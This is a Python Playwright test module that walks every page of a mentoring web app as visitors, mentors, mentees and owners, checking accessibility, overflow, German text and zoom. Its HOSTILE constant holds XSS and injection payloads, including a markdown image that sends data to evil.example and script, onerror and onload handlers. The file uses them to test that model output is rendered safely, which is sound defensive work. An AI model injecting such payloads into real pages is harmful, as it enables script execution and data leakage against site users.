"""Every page there is, by everybody who may open it, in a real browser: accessible in both themes, at every width and at twice the size.

The pages are the routes of the app: a new one is visited without being named here. One whose address names a thing is found by the
access matrix (`test_access_matrix.THINGS`); a new kind or state of an output belongs into `_outputs`.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Literal

import pytest

from api.admission import ROUTES
from api.deps import Rooms
from facilitator.access import VISITOR, Asker, Thing, could, may
from facilitator.domain.outputs import Stage, Starter
from facilitator.domain.session import Brief
from facilitator.facilitation import Facilitator
from facilitator.settings import Settings
from facilitator.store.database import sqlite_url
from facilitator.store.opening import Store, open_store
from facilitator.wiring import people
from tests.browser import MARKS, Walk, breaks_a_rule, chromium, is_wider_than_the_window, serving, walking
from tests.signed_in.people import PASSWORD, QUICK, Town, address, settle
from tests.signed_in.test_access_matrix import ROUTE_LIST, THINGS
from tests.store.conftest import MovableClock
from tests.web.conftest import HANDOVERS, NOTES, a_failure, an_escalation, an_output

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = MARKS
PAGES = [path for method, path in ROUTE_LIST if method == "GET" and not path.startswith("/api/") and path != "/arrived" and not Path(path).suffix]
PEOPLE = ("visitor", "mentor", "mentee", "owner")
LOOKS: tuple[tuple[Literal["light", "dark"], int], ...] = (("light", 1280), ("dark", 360), ("light", 360), ("dark", 1280))
NEXT_TO_SIGN_IN = frozenset({"/sign-in", "/join"})
"""Pages for whoever is not signed in; to the others they show something else."""


HOSTILE = (
    "![x](http://evil.example/?d=quokka) [y](javascript:alert(1)) <img src=http://evil.example/a onerror=alert(1)> <svg onload=alert(1)> "
    "<script>alert(1)</script> <a href='http://evil.example'>z</a> {{ 7 * 7 }}"
)
"""What a model must not bring onto a page: each visit asserts that nothing was asked of another site and no script complained."""


@dataclass(frozen=True)
class Visited:
    """A server with people on it, and what they prepared."""

    at: str
    town: Town
    outputs: dict[str, tuple[str, ...]]
    link: str

    def addresses(self, who: str) -> Iterator[str]:
        """Every page this person may open, and what they prepared in every state it can be in."""
        by = VISITOR if who == "visitor" else self.town.of(who)
        for path in PAGES:
            yield from self._address(path, who, by)
        yield from self.outputs.get(who, ())
        yield "/nothing-is-here"

    def _address(self, path: str, who: str, by: Asker) -> Iterator[str]:
        act, things = ROUTES["GET", path]
        if path in NEXT_TO_SIGN_IN and who != "visitor":
            return
        if "{" not in path:
            if any(could(by, act, thing) for thing in things):
                yield path
            return
        key, of = next(find(self.town) for start, find in THINGS.items() if path.startswith(start))
        if any(may(by, act, thing, of=of) for thing in things if thing is not Thing.TRIED_OUT):
            yield path.replace("{key}", key).replace("{id}", key)


@pytest.fixture(scope="module")
def visited(facilitator: Facilitator, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Visited]:
    folder: Path = tmp_path_factory.mktemp("every-page")
    store = open_store(sqlite_url(folder))
    rooms = Rooms(facilitator=facilitator, store=store, settings=Settings(data=folder), passwords=QUICK)
    town = settle(store, MovableClock(), "north")
    kept = {"visitor": _outputs(facilitator, store, ""), "mentor": _outputs(facilitator, store, town.house.mentor.member)}
    link = people(store, passwords=QUICK).inviting.invite(town.house.both.member, by=town.house.owner)
    with serving(rooms) as at:
        yield Visited(at, town, kept, link)
    store.close()


def _outputs(facilitator: Facilitator, store: Store, author: str) -> tuple[str, ...]:
    """The pages of an Output of each kind and in each state, and the form that begins with one of them."""
    brief = Brief.model_validate(HANDOVERS)
    safety = store.outputs.keep(facilitator.offer_safety(brief), brief=brief, author=author)
    starters = store.outputs.keep(facilitator.suggest_starters(brief), brief=brief, beside=safety.key, author=author)
    answer = store.outputs.keep(facilitator.answer(Brief(question="May I refuse to answer a question in a session?")), author=author)
    recap = store.outputs.keep(facilitator.recap(NOTES), author=author)
    escalated = store.outputs.keep(an_output(escalation=an_escalation()), author=author)
    held = store.outputs.keep(an_output(verdicts=(a_failure("It talks down to the mentor."),)), author=author)
    uncovered = store.outputs.keep(an_output(decision="release", not_covered="The library holds nothing near enough to this question."), author=author)
    hostile = store.outputs.keep(an_output(decision="release", items=(Starter(text=HOSTILE, why=HOSTILE, follow_up=HOSTILE, stage=Stage.OPEN),)), author=author)
    return (
        f"/outputs/{hostile.key}", *(f"/outputs/{one.key}" for one in (starters, answer, recap, escalated, held, uncovered)),
        f"/outputs/{starters.key}/print", f"/outputs/{recap.key}/print", f"/prepare?again={starters.key}", "/prepare?sample=short-video",
    )  # fmt: skip


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as opened:
        yield opened


@contextmanager
def _as(who: str, browser: Browser, visited: Visited, **context: object) -> Iterator[Walk]:
    with walking(browser, visited.at, **context) as walk:
        if who == "visitor":
            walk.go(f"/join/{visited.link}")
        else:
            walk.sign_in(address(who), PASSWORD)
        yield walk


def _open(walk: Walk, path: str) -> None:
    """Goes there and unfolds what is folded."""
    page = walk.go(path)
    for summary in page.locator("summary").all()[:12]:
        if summary.is_visible():
            summary.click()


def test_there_is_a_person_who_sees_each_page(visited: Visited) -> None:
    seen = {path for who in PEOPLE for path in PAGES if list(visited._address(path, who, VISITOR if who == "visitor" else visited.town.of(who)))}

    assert set(PAGES) - seen == set()


def test_case_8_what_a_model_wrote_stays_text_and_asks_nobody_for_anything(browser: Browser, visited: Visited) -> None:
    with walking(browser, visited.at) as walk:
        page = walk.go(visited.outputs["visitor"][0])

        assert "![x](http://evil.example" in page.inner_text("main")
        assert page.locator("main img, main svg, main script, main a[href^='http'], main a[href^='javascript']").count() == 0


@pytest.mark.parametrize("who", PEOPLE)
def test_no_page_breaks_a_rule_of_accessibility_or_overflows(browser: Browser, visited: Visited, who: str) -> None:
    found: list[object] = []
    with _as(who, browser, visited) as walk:
        for path in visited.addresses(who):
            for theme, width in LOOKS:
                walk.page.emulate_media(color_scheme=theme)
                walk.page.set_viewport_size({"width": width, "height": 900})
                _open(walk, path)
                found += [(path, theme, width, *broken) for broken in breaks_a_rule(walk.page)]
                if is_wider_than_the_window(walk.page):
                    found.append((path, theme, width, "wider than the window"))

    assert found == []


@pytest.mark.parametrize("who", PEOPLE)
def test_german_words_fit_a_phone_too(browser: Browser, visited: Visited, who: str) -> None:
    found = []
    with _as(who, browser, visited, viewport={"width": 360, "height": 900}, locale="de-DE" if who == "visitor" else "en-GB") as walk:
        if who != "visitor":
            walk.go("/my").select_option("#language", "de")
            walk.page.click(".language button")
            walk.page.wait_for_selector("html[lang=de]")
        for path in visited.addresses(who):
            _open(walk, path)
            if is_wider_than_the_window(walk.page):
                found.append(path)
            # an address that leads nowhere has nobody's choice to go by, only the browser's
            if walk.page.get_attribute("html", "lang") != "de" and path != "/nothing-is-here":
                found.append(f"{path} is not in German")

    assert found == []


@pytest.mark.parametrize("who", PEOPLE)
def test_at_twice_the_size_nobody_scrolls_sideways(browser: Browser, visited: Visited, who: str) -> None:
    """A window of 1280 px at 200 % is one of 640 px; and text alone at twice its size, without the rest growing with it."""
    found = []
    with _as(who, browser, visited, viewport={"width": 640, "height": 450}, device_scale_factor=2) as walk:
        for path in visited.addresses(who):
            _open(walk, path)
            if is_wider_than_the_window(walk.page):
                found.append((path, "zoom"))
        walk.page.set_viewport_size({"width": 1280, "height": 900})
        for path in visited.addresses(who):
            _open(walk, path)
            walk.page.evaluate("document.documentElement.style.fontSize = '200%'")
            if is_wider_than_the_window(walk.page):
                found.append((path, "text"))

    assert found == []
